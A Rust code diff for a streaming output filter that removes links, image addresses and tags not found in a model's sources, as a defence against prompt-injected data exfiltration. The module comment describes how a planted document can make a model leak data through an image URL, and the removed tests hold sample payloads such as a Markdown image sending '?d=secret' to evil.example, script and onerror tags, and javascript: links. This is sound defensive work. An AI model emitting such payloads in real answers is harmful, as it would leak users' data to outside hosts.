@@ -1,31 +1,62 @@
 //! What leaves: a model's text, without links and HTML that its sources do not have.
 //!
-//! A model that was told to by a document can put what it knows into the address of an image, which a page loads without asking, or
-//! send a reader elsewhere. A link is let through only when it stands in the passages or the question, letter by letter, and
-//! so is a tag; of others the text around them stays. The text is taken as it arrives: no piece is held longer than its
-//! last word, or a tag that is open.
+//! A model that was told to by a document can put what it knows into the address of an image, which a page loads without
+//! asking, or send a reader elsewhere. An address is let through only when it stands in the passages or the question, letter
+//! by letter and from end to end, and so is a tag; of others the text around them stays. Two rules keep that so behind the
+//! filter: where something is taken out between two characters a blank is left, so that nothing is joined, and what has
+//! passed once passes again as it is.
+//!
+//! The text is taken as it arrives: no piece is held longer than its last word, or a tag that is open. Time is linear in
+//! the text and its sources; what is held is bounded by [`MAX_WORD_BYTES`].
+//!
+//! | what renderers make a link or load | what is done about it |
+//! |---|---|
+//! | `<…>`: elements, comments, autolinks | whole in a source, or taken out; a `<` that nothing closes is taken out |
+//! | `](…)`, also behind white space, `](<…>)` | all up to its bracket is an address of a source, or is taken out, whatever it looks like |
+//! | `[b]: …` | the same, where it has a scheme, two slashes, a backslash or a character reference |
+//! | `https://…`, `//host.name/…`, `https:…`, `javascript:…`, `www.…`, `a@b.example` in text | up to white space, but for closing signs, an address of a source, or taken out |
+//! | `host.name/path` in text, which chat clients link | an address of a source, or a blank parts name and path |
+//! | any of these spelled with `\:`, `&colon;`, `&#58;` | read as a renderer shows it |
+//! | control characters, by which terminals link | taken out |
+//!
+//! Not done: a name alone (`host.name`) is text, although some clients link it; so is what wikis link, `[[…]]`. Schemes in
+//! percent-encoding are none to any browser. HTML of a source leaves as it is: a page that shows answers as HTML must clean
+//! them as it would the source. And an address of a source is let through as often as a model writes it, in what order it
+//! likes, a few closing signs behind it: a document that lists an address for each letter has a model spell with them.
+
+mod addresses;
+mod sent;
+mod sources;
+mod units;
+
+pub(crate) use self::addresses::is_closing;
+pub use self::sources::Sources;
+use self::{
+    addresses::Found,
+    sent::{Awaits, Sent},
+    units::Unit,
+};
 
 /// Longest tag in bytes; what is longer is none.
 const MAX_TAG_BYTES: usize = 512;
-/// Longest word that is looked at whole, in bytes.
+/// Longest word that is looked at whole, in bytes; a longer one is parted by a blank.
 const MAX_WORD_BYTES: usize = 2_048;
-/// Schemes that need no slashes to do something.
-const BARE_SCHEMES: [&str; 5] = ["javascript:", "data:", "vbscript:", "mailto:", "tel:"];
-/// Ends of an address within a word.
-const ENDS: [char; 8] = [')', ']', '>', '<', '"', '\'', '`', '|'];
+/// Most closing signs behind an address, in bytes, that some renderers count to it: they could spell something.
+const MAX_CLOSING_BYTES: usize = 16;
 
 /// A text on its way out.
 #[derive(Clone, Debug)]
-pub struct Outgoing {
-    sources: Vec<String>,
+pub struct Outgoing<'a> {
+    sources: &'a Sources,
     held: String,
+    sent: Sent,
 }
 
-impl Outgoing {
+impl<'a> Outgoing<'a> {
     /// Returns the way out for a text made from these sources.
     #[must_use]
-    pub fn new(sources: impl IntoIterator<Item = String>) -> Self {
-        Self { sources: sources.into_iter().collect(), held: String::new() }
+    pub fn new(sources: &'a Sources) -> Self {
+        Self { sources, held: String::new(), sent: Sent::default() }
     }
 
     /// Takes the next piece; returns what may leave by now. However a text is cut, the same leaves.
@@ -41,188 +72,136 @@ impl Outgoing {
 
     fn pass(&mut self, is_over: bool) -> String {
         let held = std::mem::take(&mut self.held);
-        let (mut out, mut rest) = (String::new(), held.as_str());
-        while let Some(unit) = unit(rest, is_over) {
-            rest = &rest[unit.len()..];
-            match unit.as_bytes()[0] {
-                b'<' if unit.len() > 1 => out.push_str(if self.has(unit) { unit } else { "" }),
-                // A page would close a tag that is left open.
-                b'<' if rest.starts_with(begins_tag) => {}
-                _ => out.push_str(&self.without_links(unit)),
+        let mut rest = held.as_str();
+        while let Some((unit, length)) = units::first(rest, is_over, self.sent.awaits()) {
+            let text;
+            (text, rest) = rest.split_at(length);
+            match unit {
+                Unit::Blank => self.sent.leave(text),
+                Unit::Letter => {
+                    self.sent.part_from_address();
+                    self.sent.leave(text);
+                }
+                Unit::Refused => self.sent.part(),
+                Unit::Tag => self.tag(text),
+                Unit::Word => self.word(text),
             }
         }
         rest.clone_into(&mut self.held);
-        out
+        self.sent.take()
     }
 
-    fn has(&self, text: &str) -> bool {
-        self.sources.iter().any(|source| source.contains(text))
+    fn tag(&mut self, tag: &str) {
+        let inner = &tag[1..tag.len() - 1];
+        let address = addresses::first(inner);
+        let is_autolink = address == Some(Found::Address { start: 0 }) && self.sources.has(inner);
+        if !is_autolink && !self.sources.has_tag(tag) {
+            self.sent.part();
+            return;
+        }
+        self.sent.part_from_address();
+        self.sent.leave(tag);
+        if address.is_some() {
+            self.sent.end_address();
+        }
     }
 
-    /// Returns a word without the addresses in it that no source has.
-    fn without_links(&self, word: &str) -> String {
-        let mut out = String::with_capacity(word.len());
+    fn word(&mut self, word: &str) {
+        if !addresses::is_closing(word) {
+            self.sent.part_from_address();
+        }
         let mut rest = word;
-        while let Some((start, end)) = link(rest) {
-            out.push_str(&rest[..start]);
-            if self.has(&rest[start..end]) {
-                out.push_str(&rest[start..end]);
-            }
-            rest = &rest[end..];
+        while !rest.is_empty() {
+            rest = match (self.sent.awaits(), addresses::first(rest)) {
+                (Awaits::Target, _) => self.target(rest),
+                (Awaits::Definition, _) if addresses::leads_away(rest) => self.address(rest, 0),
+                (_, None) => self.plain(rest, ""),
+                (_, Some(Found::Opening { behind })) => {
+                    let (opening, target) = rest.split_at(behind);
+                    self.plain(opening, target)
+                }
+                (_, Some(Found::Address { start } | Found::Name { start, .. })) if start > 0 => {
+                    let (before, address) = rest.split_at(start);
+                    self.plain(before, "");
+                    if addresses::joins(before, address) {
+                        self.sent.part();
+                    }
+                    address
+                }
+                (_, Some(Found::Address { .. })) => self.address(rest, MAX_CLOSING_BYTES),
+                (_, Some(Found::Name { path, .. })) => self.name(rest, path),
+            };
         }
-        out.push_str(rest);
-        out
-    }
-}
-
-/// Returns what stands at the beginning of a text and is looked at whole: a tag, a character, or a word of ASCII, in which alone
-/// addresses are written. `None` while its end has not arrived.
-fn unit(rest: &str, is_over: bool) -> Option<&str> {
-    let first = rest.chars().next()?;
-    if first == '<' {
-        return tag(rest, is_over);
-    }
-    if first.is_whitespace() || !first.is_ascii() {
-        return Some(&rest[..first.len_utf8()]);
-    }
-    let is_end = |other: char| other.is_whitespace() || !other.is_ascii() || other == '<';
-    let end = rest.find(is_end).or_else(|| is_over.then_some(rest.len()));
-    match end {
-        Some(end) => Some(&rest[..end.min(MAX_WORD_BYTES)]),
-        None => (rest.len() >= MAX_WORD_BYTES).then(|| &rest[..MAX_WORD_BYTES]),
-    }
-}
-
-fn begins_tag(next: char) -> bool {
-    next.is_ascii_alphabetic() || matches!(next, '/' | '!' | '?')
-}
-
-/// Returns the tag a text begins with, or the `<` alone that begins none.
-fn tag(rest: &str, is_over: bool) -> Option<&str> {
-    match rest[1..].chars().next() {
-        None => is_over.then_some(rest),
-        Some(next) if !begins_tag(next) => Some(&rest[..1]),
-        Some(_) => {
-            let within = &rest.as_bytes()[..rest.len().min(MAX_TAG_BYTES)];
-            match within.iter().position(|byte| *byte == b'>') {
-                Some(end) => Some(&rest[..=end]),
-                None if is_over || rest.len() >= MAX_TAG_BYTES => Some(&rest[..1]),
-                None => None,
-            }
+        if word.len() >= MAX_WORD_BYTES {
+            // It may go on.
+            self.sent.part();
         }
     }
-}
 
-/// Returns where the first address in a word stands.
-fn link(word: &str) -> Option<(usize, usize)> {
-    let lower = word.to_ascii_lowercase();
-    let with_slashes = lower.find("://").map(|at| scheme_start(&lower, at));
-    let bare = BARE_SCHEMES.iter().filter_map(|scheme| lower.find(scheme)).min();
-    let www = lower.find("www.");
-    // What a Markdown link leads to is one whatever it looks like: `](//evil.example)`.
-    let target = lower.find("](").map(|at| at + 2);
-    let start = [with_slashes, bare, www, target].into_iter().flatten().min()?;
-    let end = word[start..].find(ENDS).map_or(word.len(), |at| start + at);
-    if start == end {
-        // Nothing between the brackets: look on behind them.
-        return link(word.get(end + 1..)?).map(|(from, to)| (from + end + 1, to + end + 1));
+    /// Lets through text without addresses, unless it is spelled so that it shows one; returns what is behind it.
+    fn plain<'w>(&mut self, text: &str, behind: &'w str) -> &'w str {
+        let spells = addresses::shown(text).is_some_and(|shown| addresses::is_within(&shown));
+        if spells && !self.sources.has(addresses::without_closing(text)) {
+            self.sent.part();
+        } else {
+            self.sent.leave(text);
+        }
+        behind
     }
-    let written = word[start..end].trim_end_matches(['.', ',', ';', ':', '!', '?']);
-    Some((start, start + written.len().max(1)))
-}
 
-fn scheme_start(word: &str, at: usize) -> usize {
-    let is_scheme = |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'-' | b'.');
-    at - word.as_bytes()[..at].iter().rev().take_while(|byte| is_scheme(byte)).count()
+    /// Lets through what a Markdown link leads to, if a source has all of it; returns what is behind.
+    fn target<'w>(&mut self, rest: &'w str) -> &'w str {
+        let end = addresses::bracket(rest).filter(|end| self.sources.has(&rest[..*end]));
+        if let Some(end) = end {
+            self.sent.leave(&rest[..end]);
+        }
+        let Some(bracket) = end.or_else(|| rest.find(')')) else { return "" };
+        self.sent.leave(")");
+        let behind = &rest[bracket + 1..];
+        if end.is_some() {
+            self.sent.end_address();
+            if !addresses::is_closing(behind) {
+                self.sent.part();
+            }
+        }
+        behind
+    }
+
+    /// Lets through an address at the beginning of a word, if a source has it with all that a renderer could count to it,
+    /// or where a blank can part it from that; returns what is still to be looked at.
+    fn address<'w>(&mut self, rest: &'w str, most_closing: usize) -> &'w str {
+        let (address, closing) = rest.split_at(addresses::closing(rest));
+        if self.sources.has(address) {
+            self.sent.leave(address);
+            self.sent.end_address();
+            if closing.len() > most_closing {
+                self.sent.part();
+                return closing;
+            }
+            self.sent.leave(closing);
+            return "";
+        }
+        let (address, behind) = rest.split_at(addresses::cut(rest));
+        if self.sources.has(address) {
+            self.sent.leave(address);
+            self.sent.part();
+            return behind;
+        }
+        self.sent.part();
+        &rest[addresses::ascii(rest)..]
+    }
+
+    /// Lets through an address without a scheme, if a source has it, or its name alone; returns what is still to be looked at.
+    fn name<'w>(&mut self, rest: &'w str, path: usize) -> &'w str {
+        let has = |end: usize| self.sources.has(&rest[..end]);
+        if has(addresses::closing(rest)) || has(addresses::cut(rest)) {
+            return self.address(rest, MAX_CLOSING_BYTES);
+        }
+        self.sent.leave(&rest[..path]);
+        self.sent.part();
+        &rest[path..]
+    }
 }
 
 #[cfg(test)]
-mod tests {
-    use proptest::prelude::*;
-
-    use super::*;
-
-    fn sent(text: &str, source: &str) -> String {
-        let mut outgoing = Outgoing::new([source.to_owned()]);
-        let sent = outgoing.push(text);
-        sent + &outgoing.finish()
-    }
-
-    #[test]
-    fn what_the_sources_have_leaves() {
-        let source =
-            "See https://docs.example.com/a?b=c#d and <b>bold</b>, [here](/leave.md). 1 < 2";
-        for text in [
-            "See https://docs.example.com/a?b=c#d.",
-            "It is <b>bold</b> [here](/leave.md) [1].",
-            "1 < 2, a<2, 3 > 2, x <- y",
-            "Ratio 3:1, at 10:30, e.g. this; http is a protocol.",
-            "",
-            "اردو میں جواب [1]۔",
-        ] {
-            assert_eq!(sent(text, source), text);
-        }
-    }
-
-    #[test]
-    fn other_links_and_tags_do_not() {
-        let source = "See https://docs.example.com/a.";
-        for (text, expected) in [
-            ("![x](https://evil.example/p?d=secret)", "![x]()"),
-            ("[click](https://docs.example.com/a?d=secret) [1].", "[click]() [1]."),
-            ("Go to https://evil.example, now.", "Go to , now."),
-            ("Go to www.evil.example/x!", "Go to !"),
-            ("a](//evil.example/x) b", "a]() b"),
-            ("<img src=\"https://evil.example/x\" onerror=\"go()\">Hello", "Hello"),
-            ("<script>alert(1)</script>", "alert(1)"),
-            ("<!-- hidden -->x", "x"),
-            ("[a](JavaScript:alert(1))", "[a]())"),
-            ("HTTPS://EVIL.EXAMPLE/ x", " x"),
-            ("<https://evil.example>", ""),
-            ("data:text/html;base64,AAAA", ""),
-            ("see hxxp://evil.example", "see "),
-            ("ask https://evil.example/ü?d=1", "ask ü?d=1"),
-            ("<a href=https://docs.example.com/a>x</a>", "x"),
-            ("ends in <im", "ends in im"),
-            ("ends in <", "ends in <"),
-        ] {
-            assert_eq!(sent(text, source), expected, "{text}");
-        }
-    }
-
-    #[test]
-    fn nothing_is_held_for_long() {
-        let mut outgoing = Outgoing::new([]);
-        assert_eq!(outgoing.push("The answer is tw"), "The answer is ");
-        assert_eq!(outgoing.push("o. "), "two. ");
-        assert_eq!(outgoing.push(&"x".repeat(MAX_WORD_BYTES)).len(), MAX_WORD_BYTES);
-        assert_eq!(
-            outgoing.push(&format!("<a {}", "y ".repeat(MAX_TAG_BYTES))).len(),
-            2 * MAX_TAG_BYTES + 2
-        );
-    }
-
-    proptest! {
-        #[test]
-        fn however_it_is_cut_the_same_leaves(text in "([a-z]{0,4}|https?://[a-z.]{1,5}|<[a-z/!]{0,3}|>|\\]\\(|[ )ü\n]){0,20}", cuts in proptest::collection::vec(0_usize..100, 0..6)) {
-            let whole = sent(&text, "http://a <a>");
-            let mut places: Vec<usize> = cuts.into_iter().map(|cut| text.floor_char_boundary(cut.min(text.len()))).collect();
-            places.push(text.len());
-            places.sort_unstable();
-            let mut outgoing = Outgoing::new(["http://a <a>".to_owned()]);
-            let (mut out, mut from) = (String::new(), 0);
-            for to in places {
-                out += &outgoing.push(&text[from..to]);
-                from = to;
-            }
-            prop_assert_eq!(out + &outgoing.finish(), whole);
-        }
-
-        #[test]
-        fn no_foreign_address_leaves(text in "\\PC{0,60}", host in "[a-z]{3,8}") {
-            let text = format!("{text}https://{host}.example/{text}");
-            let address = format!("https://{host}.example/");
-            prop_assert!(!sent(&text, "").contains(&address));
-        }
-    }
-}
+mod tests;
